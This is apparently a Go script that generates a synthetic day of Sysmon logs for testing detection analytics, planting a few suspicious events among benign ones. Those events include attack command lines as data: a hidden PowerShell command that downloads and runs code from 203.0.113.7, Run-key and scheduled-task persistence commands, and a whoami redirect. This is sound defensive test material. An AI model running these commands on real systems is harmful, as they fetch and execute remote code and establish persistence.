//go:build ignore

// generate writes sample.ndjson, a small day of Sysmon events from three
// workstations in the flat form Windows names them (EventID, Channel,
// Image, …): ordinary process, file, registry and network activity, among
// which a few events the shipped example analytics must find:
//
//   - cmd.exe started by services.exe (CAR-2026-11-901),
//   - reg.exe adding a Run key, and the registry edit it makes
//     (CAR-2026-11-902),
//   - winword.exe starting powershell.exe, which connects out within ten
//     seconds (CAR-2026-11-903), and one that connects too late,
//   - schtasks.exe /create (CAR-2026-11-904).
//
// Run it with `go run generate.go` in this folder; the output is the same
// on every run (a fixed seed and clock).
package main

import (
	"bufio"
	"encoding/json"
	"fmt"
	"math/rand/v2"
	"os"
	"time"
)

const sysmon = "Microsoft-Windows-Sysmon/Operational"

var (
	hosts   = []string{"ws01.example.org", "ws02.example.org", "ws03.example.org"}
	benign  = []string{`C:\Windows\System32\svchost.exe`, `C:\Windows\explorer.exe`, `C:\Program Files\Mozilla Firefox\firefox.exe`, `C:\Windows\System32\notepad.exe`, `C:\Windows\System32\taskhostw.exe`, `C:\Windows\System32\conhost.exe`}
	parents = []string{`C:\Windows\explorer.exe`, `C:\Windows\System32\svchost.exe`, `C:\Windows\System32\services.exe`}
)

type gen struct {
	rng  *rand.Rand
	now  time.Time
	pid  int
	out  *bufio.Writer
	enc  *json.Encoder
	n    int
	last string
}

func (g *gen) emit(host string, id int, fields map[string]any) {
	fields["EventID"] = id
	fields["Channel"] = sysmon
	fields["Computer"] = host
	fields["UtcTime"] = g.now.Format("2006-01-02 15:04:05.000")
	if err := g.enc.Encode(fields); err != nil {
		panic(err)
	}
	g.n++
}

func (g *gen) tick(d time.Duration) { g.now = g.now.Add(d) }

func (g *gen) process(host, image, parent, cmd string) int {
	g.pid += 4 + g.rng.IntN(40)
	g.emit(host, 1, map[string]any{"Image": image, "ParentImage": parent, "CommandLine": cmd, "ProcessId": g.pid, "ParentProcessId": 600 + g.rng.IntN(3000), "User": `EXAMPLE\user`})
	return g.pid
}

func main() {
	f, err := os.Create("sample.ndjson")
	if err != nil {
		panic(err)
	}
	g := &gen{rng: rand.New(rand.NewPCG(2026, 11)), now: time.Date(2026, 11, 20, 8, 0, 0, 0, time.UTC), pid: 1000, out: bufio.NewWriter(f)}
	g.enc = json.NewEncoder(g.out)
	g.enc.SetEscapeHTML(false)
	for i := 0; i < 400; i++ {
		host := hosts[g.rng.IntN(len(hosts))]
		g.tick(time.Duration(5+g.rng.IntN(60)) * time.Second)
		switch i {
		case 50:
			g.process(host, `C:\Windows\System32\cmd.exe`, `C:\Windows\System32\services.exe`, `cmd.exe /c whoami > C:\Windows\Temp\out.txt`)
			continue
		case 120:
			g.process(host, `C:\Windows\System32\reg.exe`, `C:\Windows\System32\cmd.exe`, `reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v upd /d C:\Users\Public\upd.exe /f`)
			g.tick(time.Second)
			g.emit(host, 13, map[string]any{"EventType": "SetValue", "Image": `C:\Windows\System32\reg.exe`, "ProcessId": g.pid, "TargetObject": `HKU\S-1-5-21-1\Software\Microsoft\Windows\CurrentVersion\Run\upd`, "Details": `C:\Users\Public\upd.exe`})
			continue
		case 200, 300:
			pid := g.process(host, `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, `C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE`, `powershell -nop -w hidden -c iex (iwr http://203.0.113.7/a)`)
			delay := 3 * time.Second
			if i == 300 {
				delay = 30 * time.Second // too late for the ten-second window
			}
			g.tick(delay)
			g.emit(host, 3, map[string]any{"Image": `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`, "ProcessId": pid, "Protocol": "tcp", "SourceIp": "10.0.0.21", "SourcePort": 49812, "DestinationIp": "203.0.113.7", "DestinationPort": 80})
			continue
		case 250:
			g.process(host, `C:\Windows\System32\schtasks.exe`, `C:\Windows\System32\cmd.exe`, `schtasks /create /tn upd /tr C:\Users\Public\upd.exe /sc onlogon`)
			continue
		}
		switch r := g.rng.IntN(10); {
		case r < 5:
			img := benign[g.rng.IntN(len(benign))]
			g.process(host, img, parents[g.rng.IntN(2)], fmt.Sprintf(`"%s" %d`, img, g.rng.IntN(100)))
		case r < 7:
			g.emit(host, 11, map[string]any{"Image": `C:\Windows\explorer.exe`, "ProcessId": 2000 + g.rng.IntN(100), "TargetFilename": fmt.Sprintf(`C:\Users\user\Documents\report-%d.docx`, g.rng.IntN(1000))})
		case r < 9:
			g.emit(host, 3, map[string]any{"Image": `C:\Program Files\Mozilla Firefox\firefox.exe`, "ProcessId": 3000 + g.rng.IntN(100), "Protocol": "tcp", "SourceIp": "10.0.0.21", "SourcePort": 50000 + g.rng.IntN(10000), "DestinationIp": "198.51.100.10", "DestinationPort": 443})
		default:
			g.emit(host, 13, map[string]any{"EventType": "SetValue", "Image": `C:\Windows\System32\svchost.exe`, "ProcessId": 900, "TargetObject": `HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\x`, "Details": "Binary Data"})
		}
	}
	if err := g.out.Flush(); err != nil {
		panic(err)
	}
	if err := f.Close(); err != nil {
		panic(err)
	}
	fmt.Println("wrote", g.n, "events to sample.ndjson")
}
